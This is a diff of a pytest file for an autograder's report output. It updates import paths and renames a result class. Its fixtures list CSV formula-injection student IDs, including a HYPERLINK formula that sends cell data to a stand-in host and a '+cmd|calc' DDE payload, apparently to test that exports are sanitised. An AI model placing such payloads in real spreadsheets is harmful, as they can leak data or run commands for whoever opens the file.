@@ -3,9 +3,9 @@ import csv
 
 import pytest
 
-from autograder.grade.gradebook import Recorded
-from autograder.grade.report import NUMBER, spreadsheet_original, spreadsheet_safe, write_outputs
-from autograder.grade.results import FinalResult
+from autograder.grade.output.gradebook import Recorded
+from autograder.grade.output.report import NUMBER, spreadsheet_original, spreadsheet_safe, write_outputs
+from autograder.grade.submission.results import SubmissionResult
 
 A = "01_tokens_and_ids"
 HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
@@ -13,12 +13,12 @@ STUDENTS = ["ada", HOSTILE, "=SUM(A1)", "+cmd|calc", "-rf", "@SUM(A1)", "\t=1+1"
 CSVS = ("scores.csv", "grades.csv", "problems.csv", "lms.csv", "items.csv")  # every CSV ``grade`` writes
 
 
-def result(student: str) -> FinalResult:
+def result(student: str) -> SubmissionResult:
     scores = [{"grade_id": gid, "points": pts, "max_points": 1.0, "status": "passed" if pts else "failed",
                "message": "", "mistake": ""}
               for gid, pts in (("test_encode", 0.0), ("test_encode_hidden", 1.0), ("test_decode", 1.0))]
     problems = [{"problem": "tampered", "detail": "=1+1 was written in the test cell", "fatal": False}]
-    return FinalResult.from_json({"student_id": student, "assignment_id": A, "scores": scores, "code": {},
+    return SubmissionResult.from_json({"student_id": student, "assignment_id": A, "scores": scores, "code": {},
                                   "problems": problems if student != "ada" else []})
 
 
